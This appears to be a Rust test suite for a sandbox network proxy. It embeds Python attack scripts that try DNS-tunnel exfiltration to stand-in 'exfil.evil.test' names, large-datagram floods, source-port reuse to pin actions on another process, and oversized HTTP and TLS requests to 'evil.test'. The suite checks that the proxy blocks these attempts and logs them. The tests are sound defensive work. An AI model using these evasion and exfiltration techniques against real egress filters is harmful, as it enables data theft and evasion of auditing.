//! Attacks on the proxy's own listener ports, on DNS floods of the largest datagrams a
//! runner's 65535-byte link delivers whole, on tunnel receive batching and on tunnel byte
//! accounting, from inside real sandboxes as root through the product's contracts only.
//!
//! Each checks that nothing reached a trap, a web server (`/leak-` paths) or the upstream
//! DNS server (denied names), and that every attempt is in the audit log: with its process
//! (a job sending straight to a transparent or DNS listener port, or from a source port an
//! earlier socket used, is named, not someone else), with its bytes (a server that speaks
//! first), or, for datagrams dropped in a flood, in the filter's summary counts.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use runner_agent_tests::agent::{describe, python_job, World, PY_ATTACK_PRELUDE};
use runner_agent_tests::netbed::{
    allowed_test_bed, allowed_test_config, settle, NetBed, TRAP_IPS, WEB_IP,
};
use runner_agent_tests::require_privilege;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PRELUDE: &str = r#"
libc = ctypes.CDLL(None, use_errno=True)
def setcomm(name):
    libc.prctl(15, ctypes.c_char_p(name.encode()), 0, 0, 0)
def qname(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\x00"
def query(n, qid=0x1234, qtype=1):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname(n) + struct.pack("!HH", qtype, 1)
def udp_send(label, addr, data, bind_port=None, wait=0.5):
    udp(label, data, addr, wait=wait, bind_port=bind_port)
def tcp_send(label, addr, data, bind_port=None, wait=1.0):
    out = raw(addr, data, wait=wait, pause=0, bind_port=bind_port)
    print("ATTEMPT", label, "->", repr(out[:80]), flush=True)
"#;

fn deny_events(events: &[serde_json::Value]) -> Vec<&serde_json::Value> {
    events.iter().filter(|e| e["verdict"] == "deny").collect()
}

/// Whether `event` is one of the DNS filter's summary events: datagrams dropped by the
/// kernel before the filter read them, or queries dropped at the filter's in-flight cap.
/// They count datagrams whose sender the filter never saw, so they name no process.
fn is_drop_summary(event: &serde_json::Value) -> bool {
    event["source"] == "dns"
        && event["reason"].as_str().is_some_and(|r| {
            r.contains("dropped by the kernel") || r.contains("queries over UDP dropped")
        })
}

/// The datagrams the summary events count.
fn summarised_drops(events: &[serde_json::Value]) -> u64 {
    events
        .iter()
        .filter(|e| is_drop_summary(e))
        .filter_map(|e| {
            e["reason"]
                .as_str()?
                .split_whitespace()
                .next()?
                .parse::<u64>()
                .ok()
        })
        .sum()
}

// ---------------------------------------------------------------- 1. DNS filter, direct

const DIRECT_DNS: &str = r#"
TRAP = sys.argv[1]
D = (PH, 3053)
setcomm("direct-dns")
# a. straight to the filter's own port (no :53 redirect): denied name, garbage, response.
udp_send("d-udp-denied-name", D, query("direct1.exfil.evil.test"))
udp_send("d-udp-garbage", D, b"NOT-DNS-DIRECT-EXFIL-DATA")
resp = b"\xab\xcd\x81\x80\x00\x01\x00\x00\x00\x00\x00\x00" + qname("resp2.exfil.evil.test") + b"\x00\x01\x00\x01"
udp_send("d-udp-response", D, resp)
# b. 65,507-byte datagrams (whole on the 64 KiB link): a denied-name query padded with
# data after its question, and an allowed query padded the same way.
pad = b"\xAA" * 65000
udp_send("d-udp-big-denied", D, query("big3.exfil.evil.test") + pad)
udp_send("d-udp-big-allowed", (TRAP, 53), query("allowed.test") + b"BIGPAD-EXFIL" * 5000)
# c. DNS over TCP straight to the filter's port.
q = query("direct4.exfil.evil.test")
tcp_send("d-tcp-denied-name", D, u16(len(q)) + q)
tcp_send("d-tcp-garbage", D, b"\x00\x05hello")
# d. the transparent listeners straight (no redirect, so no original destination).
tcp_send("d-tls-direct", (PH, 3443), client_hello([b"allowed.test"]))
tcp_send("d-http-direct", (PH, 3080), b"GET /leak-direct HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
# e. misattribution: a lookup through the redirect from port 40053 by "innocent", then
# (socket closed) an exfiltration name sent straight to the filter from the same port by
# "attacker".
setcomm("innocent")
udp_send("m-innocent-lookup", (TRAP, 53), query("allowed.test"), bind_port=40053)
setcomm("attacker")
udp_send("m-attacker-direct", D, query("misattr5.exfil.evil.test"), bind_port=40053)
# f. a burst of 64 KiB datagrams carrying denied names, through the :53 redirect.
setcomm("burst")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0
for i in range(400):
    try:
        s.sendto(query("burst%d.exfil.evil.test" % i) + b"\xBB" * 65000, (TRAP, 53))
        sent += 1
    except OSError as e:
        pass
print("BURST sent", sent, flush=True)
time.sleep(1)
# g. the filter still answers afterwards
udp_send("after-burst-allowed", (TRAP, 53), query("allowed.test"), wait=3)
"#;

#[test]
fn sending_straight_to_the_listeners_and_floods_of_big_datagrams_are_recorded() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let (output, events) = world.run_python_audited(
        "direct-dns",
        "direct dns",
        "",
        &TRAP_IPS[0].to_string(),
        &format!("{PY_ATTACK_PRELUDE}\n{PRELUDE}\n{DIRECT_DNS}"),
    );
    println!("{}", describe(&output));
    for e in &events {
        if e["source"] == "dns" && e["host"].as_str().is_some_and(|h| h.starts_with("burst")) {
            continue;
        }
        println!("EVENT {e}");
    }
    let burst_events = events
        .iter()
        .filter(|e| e["host"].as_str().is_some_and(|h| h.starts_with("burst")))
        .count();
    let shed: Vec<_> = events
        .iter()
        .filter(|e| e["reason"].as_str().is_some_and(|r| r.contains("dropped")))
        .collect();
    println!("BURST events: {burst_events} (of 400 sent); shed events: {shed:?}");
    let mut problems = Vec::new();
    if !bed.trap_hits().is_empty() {
        problems.push(format!("trap hits: {:?}", bed.trap_hits()));
    }
    let evil: Vec<_> = bed
        .dns_hits()
        .into_iter()
        .filter(|h| h.name.contains("evil"))
        .collect();
    if !evil.is_empty() {
        problems.push(format!("denied names upstream: {evil:?}"));
    }
    if bed.web_hits().iter().any(|h| h.path.contains("leak")) {
        problems.push(format!("web hits: {:?}", bed.web_hits()));
    }
    for e in deny_events(&events) {
        // ICMP port-unreachable from the runner's kernel for a reply that came after its
        // socket closed; and the filter's summary counts (checked below).
        if (e["kind"] == "packet" && e["port"].is_null()) || is_drop_summary(e) {
            continue;
        }
        if !(e["pid"].is_number() && e["comm"].is_string()) {
            problems.push(format!("deny event without pid/comm: {e}"));
        }
        if e["ip"].is_null() && e["host"].is_null() {
            problems.push(format!("deny event without destination: {e}"));
        }
    }
    for name in [
        "direct1.exfil.evil.test",
        "big3.exfil.evil.test",
        "direct4.exfil.evil.test",
        "misattr5.exfil.evil.test",
    ] {
        if !events
            .iter()
            .any(|e| e["host"].as_str().is_some_and(|h| h.starts_with(name)))
        {
            problems.push(format!("no event for {name}"));
        }
    }
    if let Some(e) = events.iter().find(|e| {
        e["host"]
            .as_str()
            .is_some_and(|h| h.starts_with("misattr5"))
    }) {
        if e["comm"] != "attacker" {
            problems.push(format!("misattributed: {e}"));
        }
    }
    let summarised = summarised_drops(&events);
    if burst_events as u64 + summarised != 400 {
        problems.push(format!(
            "400 big datagrams: {burst_events} events of their own and {summarised} counted \
             as dropped"
        ));
    }
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

// ------------------------------------------- 2. server-first bytes and tunnel accounting

/// A server-speaks-first service on WEB_IP:2222: sends `BANNER` bytes on accept, then
/// reads whatever comes and counts it.
const BANNER: usize = 300_000;

const SERVER_FIRST: &str = r#"
def banner_then(label, then):
    s, head = connect_tunnel("allowed.test:2222")
    got = 0
    s.settimeout(4)
    try:
        while got < 300000:
            b = s.recv(65536)
            if not b:
                break
            got += len(b)
    except OSError as e:
        pass
    print("ATTEMPT", label, "head", head.split(b"\r\n")[0], "banner bytes", got, flush=True)
    try:
        s.sendall(then)
        s.settimeout(1.5)
        out = s.recv(1000)
        print("  then ->", repr(out[:80]), flush=True)
    except OSError as e:
        print("  then ->", e, flush=True)
    s.close()
banner_then("sf-http-other-host", b"GET /leak-sf1 HTTP/1.1\r\nHost: tenant.test\r\n\r\n")
banner_then("sf-tls-other-sni", client_hello([b"tenant.test"]))
banner_then("sf-http-same-host", b"GET /sf3 HTTP/1.1\r\nHost: allowed.test:2222\r\nConnection: close\r\n\r\n")
"#;

#[test]
fn server_first_bytes_are_accounted() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let received = Arc::new(AtomicU64::new(0));
    let listener = bed.internet().run(async move {
        tokio::net::TcpListener::bind((WEB_IP, 2222))
            .await
            .expect("bind 2222")
    });
    let count = Arc::clone(&received);
    bed.internet().spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let count = Arc::clone(&count);
            tokio::spawn(async move {
                let banner = vec![b'B'; BANNER];
                let _ = s.write_all(&banner).await;
                let mut buf = vec![0u8; 65536];
                while let Ok(n) = s.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    count.fetch_add(n as u64, Ordering::SeqCst);
                }
            });
        }
    });
    let world = World::in_netns(
        bed.host_ns(),
        "",
        &allowed_test_config(
            "        - host: allowed.test\n          ports: [2222]\n",
            "",
        ),
    );
    let (output, events) = world.run_python_audited(
        "server-first",
        "server first",
        "",
        "",
        &format!("{PY_ATTACK_PRELUDE}\n{PRELUDE}\n{SERVER_FIRST}"),
    );
    println!("{}", describe(&output));
    for e in &events {
        println!("EVENT {e}");
    }
    println!(
        "bytes the 2222 server received: {}",
        received.load(Ordering::SeqCst)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    let delivered = stdout.matches("banner bytes 300000").count();
    let accounted = events
        .iter()
        .filter(|e| {
            e["port"] == 2222 && e["bytes_down"].as_u64().is_some_and(|d| d >= BANNER as u64)
        })
        .count();
    println!(
        "banners delivered to the job: {delivered}; tunnel events accounting them: {accounted}"
    );
    assert!(bed.trap_hits().is_empty());
    assert!(!bed.web_hits().iter().any(|h| h.path.contains("leak")));
    assert_eq!(
        accounted, delivered,
        "banners of {BANNER} bytes reached the job without any event counting them"
    );
}

// --------------------------------------------- 3. batching: tails and exact byte counts

const UP: usize = 3 * 1024 * 1024 + 7;
const DOWN: usize = 3 * 1024 * 1024 + 5;

const BATCH: &str = r#"
UP = 3 * 1024 * 1024 + 7
DOWN = 3 * 1024 * 1024 + 5
for round in range(3):
    s, _ = connect_tunnel("allowed.test:2223")
    t0 = time.time()
    s.sendall(b"\x00" + b"u" * (UP - 1))
    t1 = time.time()
    got = 0
    s.settimeout(10)
    first_tail = None
    while got < DOWN:
        b = s.recv(262144)
        if not b:
            break
        got += len(b)
    t2 = time.time()
    # interactive: a 3-byte ping after the bulk, waiting for a 4-byte pong
    s.sendall(b"pin")
    pong = b""
    while len(pong) < 4:
        b = s.recv(4)
        if not b:
            break
        pong += b
    t3 = time.time()
    s.close()
    print("ROUND", round, "up %.3f down %.3f pong %.3f got %d pong %r" % (t1 - t0, t2 - t1, t3 - t2, got, pong), flush=True)
    time.sleep(0.3)
"#;

#[test]
fn batched_tunnels_deliver_tails_and_count_exactly() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let listener = bed.internet().run(async move {
        tokio::net::TcpListener::bind((WEB_IP, 2223))
            .await
            .expect("bind 2223")
    });
    bed.internet().spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = vec![0u8; UP];
                if s.read_exact(&mut buf).await.is_err() {
                    return;
                }
                let down = vec![b'd'; DOWN];
                let _ = s.write_all(&down).await;
                let mut ping = [0u8; 3];
                if s.read_exact(&mut ping).await.is_err() {
                    return;
                }
                let _ = s.write_all(b"pong").await;
                let mut rest = [0u8; 16];
                let _ = s.read(&mut rest).await;
            });
        }
    });
    let world = World::in_netns(
        bed.host_ns(),
        "",
        &allowed_test_config(
            "        - host: allowed.test\n          ports: [2223]\n",
            "",
        ),
    );
    let (output, events) = world.run_python_audited(
        "batch",
        "batch",
        "",
        "",
        &format!("{PY_ATTACK_PRELUDE}\n{PRELUDE}\n{BATCH}"),
    );
    println!("{}", describe(&output));
    let tunnels: Vec<_> = events
        .iter()
        .filter(|e| e["port"] == 2223 && e["bytes_up"].is_number())
        .collect();
    for e in &tunnels {
        println!("TUNNEL {e}");
    }
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(tunnels.len(), 3, "{events:#?}");
    for e in tunnels {
        assert_eq!(e["bytes_up"].as_u64(), Some(UP as u64 + 3), "{e}");
        assert_eq!(e["bytes_down"].as_u64(), Some(DOWN as u64 + 4), "{e}");
    }
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(stdout.matches("pong b'pong'").count(), 3, "{stdout}");
}

// ------------------------------- 4. burst size control, cross-process misattribution, heads

const MORE: &str = r#"
import subprocess
TRAP = sys.argv[1]
D = (PH, 3053)
# a. same burst, small datagrams (control) then big ones
for tag, pad in (("small", 0), ("big", 65000)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(400):
        s.sendto(query("%s%d.exfil.evil.test" % (tag, i)) + b"\xBB" * pad, (TRAP, 53))
    s.close()
    print("BURST", tag, "sent 400", flush=True)
    time.sleep(1.5)
# b. another process (comm "innocent") looks up allowed.test through :53 from port 40054;
# then this process (comm "attacker") sends an exfiltration name straight to the filter
# from the same port.
subprocess.run([sys.executable, "-c", "import socket,ctypes,struct;ctypes.CDLL(None).prctl(15,b'innocent',0,0,0);s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('0.0.0.0',40054));s.settimeout(2);q=bytes.fromhex('abcd01000001000000000000')+b'\\x07allowed\\x04test\\x00'+bytes.fromhex('00010001');s.sendto(q,('%s',53));print('INNOCENT pid',__import__('os').getpid(),s.recvfrom(512)[0][3]&15)" % TRAP])
setcomm("attacker")
print("ATTACKER pid", os.getpid(), flush=True)
udp_send("m2-attacker-direct", D, query("misattr6.exfil.evil.test"), bind_port=40054)
# c. an explicit-proxy head of ~60 KiB in one segment, and a 64 KiB ClientHello split in
# 1-byte-payload... (record size 5) records in one segment toward a trap through :443.
big_head = b"GET http://evil.test/leak-bighead HTTP/1.1\r\nHost: evil.test\r\nX-Pad: " + b"a" * 60000 + b"\r\n\r\n"
tcp_send("h-big-head", E, big_head)
ch = client_hello([b"allowed.test"] , record=7)
print("hello bytes", len(ch), flush=True)
tcp_send("h-many-records-trap", (TRAP, 443), ch + b"GET /leak-hello HTTP/1.1\r\n\r\n")
"#;

#[test]
fn floods_source_port_reuse_and_big_heads_are_recorded_as_their_senders() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let job = world.job(
        "more.yaml",
        &python_job(
            "more",
            "more",
            "",
            &TRAP_IPS[0].to_string(),
            &format!("{PY_ATTACK_PRELUDE}\n{PRELUDE}\n{MORE}"),
        ),
    );
    let snmp = |when: &str| {
        let out = std::process::Command::new("ip")
            .args(["netns", "exec", bed.host_ns(), "cat", "/proc/net/snmp"])
            .output()
            .expect("snmp");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        for l in text.lines().filter(|l| l.starts_with("Udp:")) {
            println!("SNMP {when} {l}");
        }
    };
    snmp("before");
    let (output, events) = world.run_audited(&job);
    settle();
    snmp("after");
    let stdout = String::from_utf8_lossy(&output.stdout);
    for l in stdout
        .lines()
        .filter(|l| !l.starts_with("  ") || l.contains("ATTEMPT"))
    {
        if l.contains("exfil.evil.test") {
            continue;
        }
        println!("{l}");
    }
    let count = |prefix: &str| {
        events
            .iter()
            .filter(|e| {
                e["host"].as_str().is_some_and(|h| {
                    h.strip_prefix(prefix)
                        .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit()))
                })
            })
            .count()
    };
    println!(
        "events: small {} / 400, big {} / 400",
        count("small"),
        count("big")
    );
    for e in &events {
        let h = e["host"].as_str().unwrap_or("");
        if (h.starts_with("small") || h.starts_with("big")) && h.contains("exfil") {
            continue;
        }
        println!("EVENT {e}");
    }
    assert!(bed.trap_hits().is_empty(), "{:?}", bed.trap_hits());
    assert!(!bed.web_hits().iter().any(|h| h.path.contains("leak")));
    assert!(!bed.dns_hits().iter().any(|h| h.name.contains("evil")));
    let mut problems = Vec::new();
    let misattr = events
        .iter()
        .find(|e| e["host"] == "misattr6.exfil.evil.test")
        .cloned();
    if misattr.as_ref().is_none_or(|e| e["comm"] != "attacker") {
        problems.push(format!("misattr6 event names another process: {misattr:?}"));
    }
    let (small, big, summarised) = (count("small"), count("big"), summarised_drops(&events));
    if (small + big) as u64 + summarised != 800 {
        problems.push(format!(
            "800 queries: {small} small and {big} big ones with events of their own, \
             {summarised} counted as dropped"
        ));
    }
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}
